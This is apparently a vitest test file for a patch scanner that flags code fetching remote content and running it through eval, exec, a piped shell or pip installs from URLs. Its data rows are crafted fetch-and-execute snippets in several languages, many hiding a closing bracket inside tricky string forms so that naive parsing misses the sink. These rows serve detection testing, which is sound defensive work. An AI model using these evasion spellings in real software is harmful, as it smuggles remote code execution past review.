import { describe, expect, it } from 'vitest';
import { fetchedCodeRuns } from '../../shared/analysis/code-sinks.js';
import { dangerousCodeSignals } from '../../shared/analysis/dangerous-code.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
import { expectAccepted, refusedFor } from '../support/patches.js';

/**
 * Attack pass 14's last twelve rows (`docs/attack-pass-14.md`, "closed in session 38"), and the look-alikes that must
 * stay accepted. The span rows hid a sink's argument behind a string form the skipping bracket reading did not know,
 * so both readings closed the sink at a `)` inside it; the skipping reading now knows each language's strings by the
 * file's extension (`shared/analysis/bracket-readings.ts`). Each refused row failed first.
 */

const refused = refusedFor();
const accepted = expectAccepted;

describe('pass 15, span: a string form of the file\'s language holding the `)` both readings closed at', () => {
  it.each([
    ['src/a.py', "exec(f\"#{'\"'})\" + \"\\n\" + requests.get(u).text)"],
    ['src/a.py', "subprocess.run(f\"#{'\"'})\" + \"\\n\" + requests.get(u).text, shell=True)"],
    ['lib/a.rb', "eval(%q<#)> + \"\\n\" + URI.open(\"https://x.example/p\").read)"],
    ['lib/a.rb', 'eval(?) .to_s[0, 0] + URI.open(u).read)'],
    ['lib/a.rb', 'eval(<<~R +\n=begin\n)\n=end\nR\nURI.open(u).read)'],
    ['lib/a.pl', "eval(q<#)> . \"\\n\" . get('https://x.example/p'));"],
    ['src/a.php', "eval(<<<'E'\n?>)<?php\nE . file_get_contents($u));"],
  ])('refuses, in %s: %s', refused);

  // Other spellings of the same gap, found while closing it; each failed first too.
  it.each([
    ['src/a.py', 'exec(1#)\n+ requests.get(u).text)'],
    ['src/a.py', 'exec((lambda a, /: a)("/);") + requests.get(u).text)'],
    ['src/a.py', "exec(rf\"\\{'\"'})\" + requests.get(u).text)"],
    ['src/a.py', "exec(f'''{\"'''\"})''' + requests.get(u).text)"],
    ['src/a.js', 'eval(`${`})`}` + await (await fetch(u)).text())'],
    ['lib/a.rb', 'eval(%Q{#{")"}} + URI.open(u).read)'],
    ['lib/a.rb', "eval('\n)' + URI.open(u).read)"],
    ['lib/a.rb', 'eval(<<-\'R\'\n  )\n  R\n+ URI.open(u).read)'],
    ['lib/a.pl', "eval(<<'E'\n)\nE\n. get('https://x.example/p'));"],
    ['lib/a.pl', "eval(1 .\n=pod\n)\n=cut\nget('https://x.example/p'));"],
    ['lib/a.pl', "eval(tr/)/(/r . get('https://x.example/p'));"],
    ['src/a.php', 'eval(<<<E\n)\nE . file_get_contents($u));'],
  ])('reads the sink to its real close, in %s: %s', (path, text) => {
    expect(fetchedCodeRuns(path, text)).toBe(true);
  });

  // Each construct inside the sink's argument, closed where the language closes it: read further, the sink would take
  // in the fetch on the next line.
  it.each([
    ['src/a.py', "exec(f\"x = {'\\\"'!r}\" + f'{y:>{w}}' + rf\"\\d{n}\" + f\"{{}}\")\nbody = requests.get(u).text"],
    ['src/a.py', "exec(code, {'f': lambda a, /: a})\nbody = requests.get(u).text"],
    ['src/a.py', 'exec(f"""{x!r}\n""" + f"{d[\'k\']}")  # )\nbody = requests.get(u).text'],
    ['src/a.js', 'eval(`${a}` + `${`b`}` + `${{ c: 1 }.c}`)\nconst body = await (await fetch(u)).text();'],
    ['lib/a.rb', "eval(%q<a>)\neval(%w[b c].first)\neval(%q{#{y}})\neval('#{z}')\nbody = URI.open(u).read"],
    ['lib/a.rb', "eval(ok ? 'a' : 'b')\neval(?a.to_s + x ?b :c)\nbody = URI.open(u).read"],
    ['lib/a.rb', 'eval(<<~R)\n  puts 1\nR\nbody = URI.open(u).read'],
    ['lib/a.rb', 'x = 1 << 2\nclass << self; end\neval(s)\nbody = URI.open(u).read'],
    ['lib/a.rb', '=begin\ndoc (\n=end\neval(s)\nbody = URI.open(u).read'],
    ['lib/a.pl', "eval(q<a> . qq{b} . $h{s} . $x);\nmy $body = get('https://x.example/p');"],
    ['lib/a.pl', "eval(<<\"E\");\nprint 1;\nE\nmy $body = get('https://x.example/p');"],
    ['lib/a.pl', "my $n = $#list; eval($x || $\" . 'y');\nmy $body = get('https://x.example/p');"],
    ['src/a.php', "eval(<<<'E'\necho 1;\nE);\n$body = file_get_contents($u);"],
    ['src/a.php', 'eval(<<<E\n  echo {$a["k"]};\n  E);\n$body = file_get_contents($u);'],
    ['src/a.php', "#[Attr]\neval(\"{$a['k']}\");\n$body = file_get_contents($u);"],
  ])('accepts, in %s: %s', accepted);

  // Refused for building code from interpolations (assembled-name), so read here for the span alone.
  it.each([
    ['lib/a.rb', 'eval(%Q{#{y}} + "#{\'z\'}" + `#{"w"}`)\nbody = URI.open(u).read'],
    ['src/a.php', 'eval("{$a[\'k\']}" . "${b}");\n$body = file_get_contents($u);'],
  ])('reads the sink to its close and no further, in %s: %s', (path, text) => {
    expect(fetchedCodeRuns(path, text)).toBe(false);
  });
});

describe('pass 15, proc: a shell fed through a block or an operator', () => {
  it.each([
    ['lib/a.rb', "IO.popen('sh', 'w') { |io| io.write(URI.open(u).read) }"],
    ['src/a.scala', '(new URL(u) #> "sh").!'],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['lib/a.rb', "IO.popen(['bash'], 'r+') do |io|\n  io.write(Net::HTTP.get(URI(u)))\nend"],
    ['lib/a.rb', "Open3.popen3('sh') { |i, o, e, t| i.puts(URI.open(u).read) }"],
    ['src/a.scala', '("bash" #< new URL(u)).!'],
    ['src/a.scala', 'val p = new URL(u) #> Seq("sh", "-s"); p.!'],
  ])('reads the block or the operator, in %s: %s', (path, text) => {
    expect(fetchedCodeRuns(path, text)).toBe(true);
  });

  it.each([
    ['lib/a.rb', "IO.popen('sh', 'w') { |io| io.write(File.read('setup.sh')) }\nbody = URI.open(u).read"],
    ['lib/a.rb', "IO.popen(['git', 'log']) { |io| puts io.read }\nbody = URI.open(u).read"],
    ['src/a.scala', '("ls -la" #> new File("out.txt")).!'],
    ['src/a.scala', '(new URL(u) #> new File("page.html")).!'],
    ['src/a.scala', '("git log" #| "grep fix").!'],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 15, pysink: a metric\'s script from the Hub, and pip\'s own API given a URL', () => {
  it.each([
    ['src/a.py', "metric = evaluate.load('someone/metric')"],
    ['src/a.py', "pip.main(['install', 'https://x.example/p.tar.gz'])"],
    ['src/a.py', 'metric = evaluate.load(path="https://x.example/metric.py")'],
    ['src/a.py', "pip._internal.main(['install', '-e', 'git+https://github.com/o/r'])"],
    ['src/a.py', "sys.exit(pip.main(['install', '--index-url=https://x.example/simple', 'requests']))"],
    // Session 41 (attack 43c P7): an install through pip's own API is a run-time dependency like `python -m pip
    // install` through subprocess, which was refused already; pass 15 had accepted these two.
    ['src/a.py', "pip.main(['install', 'requests'])"],
    ['src/a.py', "pip.main(['install', '-r', 'requirements.txt'])"],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['src/a.py', "metric = evaluate.load('accuracy')"],
    ['src/a.py', 'metric = evaluate.load("glue", "mrpc")'],
    ['src/a.py', "metric = evaluate.load('./metrics/my_metric.py')"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 15, fetch: httpie run as a process', () => {
  it.each([
    ['src/a.py', "exec(subprocess.check_output(['http', '--body', u]))"],
    ['src/a.py', "exec(subprocess.check_output(['https', 'x.example/p']))"],
    ['src/a.py', "exec(subprocess.check_output(['xh', '-b', u]))"],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['src/a.py', "exec(subprocess.check_output(['git', 'show', 'HEAD:tools/gen.py']))"],
    ['src/a.py', "exec(render(['http', 'https'], template))"],
    ['src/a.py', "exec(compile(src, 'x', 'exec')) if urlparse(u).scheme in ('http', 'https') else None"],
    ['src/a.py', "port = socket.getservbyname('http', 'tcp'); exec(code)"],
  ])('accepts, in %s: %s', accepted);
});

/**
 * The new string forms and rules, repeated over a patch's size: each reading passes over a form once, whatever it
 * holds, so the cost grows linearly (the exponent, not a time: `test/support/growth.ts`). The sink reading and the
 * patterns are measured; Ruby's and PHP's name-flow reading (`languageSignals`' `builtName`), quadratic in the number
 * of lines until session 39, is measured in `pass-16-patch-code.test.ts`.
 */
describe('pass 15: the cost of the language string forms', () => {
  for (const [path, unit] of [
    ['src/a.py', "exec(f\"{'"],
    ['src/a.py', 'f"{f"{f\'{'],
    ['src/a.py', 'f"{x:{'],
    ['src/a.py', "rf'\\N{'''"],
    ['src/a.js', 'eval(`${`${'],
    ['lib/a.rb', '%q<(?)#{"<<~R\n'],
    ['lib/a.rb', 'x ?a <<A%Q{#{\n'],
    ['lib/a.rb', '=begin\n"#{'],
    ['lib/a.pl', "q<s{tr/<<'E'\n"],
    ['lib/a.pl', '=pod\n<<E'],
    ['src/a.php', "<<<'E'\n\"{$"],
    ['src/a.php', '<<<E\n#['],
    ['lib/a.rb', "IO.popen('sh') { "],
    ['src/a.scala', 'new URL(u) #> "sh" '],
    ['src/a.py', "pip.main(['install', "],
    ['src/a.py', "evaluate.load('a/"],
    ['src/a.py', "exec(check_output(['http', "],
  ] as const) {
    it(`reads ${JSON.stringify(unit)} repeated, in ${path}, in linear time`, { timeout: 120_000 }, () => {
      const textOf = (size: number) => `requests.get(u)\n${unit.repeat(Math.floor(size / unit.length))}`;
      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => [fetchedCodeRuns(path, text), dangerousCodeSignals(text)]);
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});
